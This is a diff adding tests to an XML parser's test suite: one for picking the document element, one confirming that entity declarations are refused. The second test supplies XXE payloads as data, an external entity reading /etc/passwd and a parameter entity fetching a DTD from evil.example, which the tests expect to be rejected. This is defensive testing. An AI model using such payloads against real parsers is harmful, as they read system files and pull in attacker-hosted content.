@@ -101,6 +101,12 @@ describe('parseXml: text', () => {
     expect(child(root, 1).rawText).toBe('d &amp; <i>e</i>');
   });
 
+  it('takes the first element as the document element, whatever text or CDATA comes before it', () => {
+    for (const text of ['<![CDATA[x]]><r/>', 'text<r/>', '<r/><s/>', '<r/>trailing']) {
+      expect(parseXml(text)).toEqual({ ns: '', name: 'r', qname: 'r', attrs: [], children: [], base: undefined });
+    }
+  });
+
   it('skips the declaration, comments and processing instructions around the document element', () => {
     const root = parseXml('<?xml version="1.0"?>\n<!-- c --><?pi x?><rss version="2.0"><!-- in --><?pi y?>x</rss>');
     expect(root).toMatchObject({ name: 'rss', attrs: [{ name: 'version', value: '2.0' }], children: ['x'] });
@@ -133,6 +139,12 @@ describe('parseXml: refusals', () => {
     expect(() => parseXml('<!DOCTYPE r [<!ENTITY e "v">]><r>&e;</r>')).toThrow(
       new XmlError('the document declares the entity "e" in its DOCTYPE; entity declarations are refused'),
     );
+  });
+
+  it('refuses external and parameter entities as entity declarations, with the reason the parser gives', () => {
+    for (const doctype of ['<!ENTITY x SYSTEM "file:///etc/passwd">', '<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;']) {
+      expect(() => parseXml(`<!DOCTYPE r [${doctype}]><r>&x;</r>`)).toThrow(/^entity declarations are refused \(.+\)$/);
+    }
   });
 
   it('says why malformed XML is refused', () => {
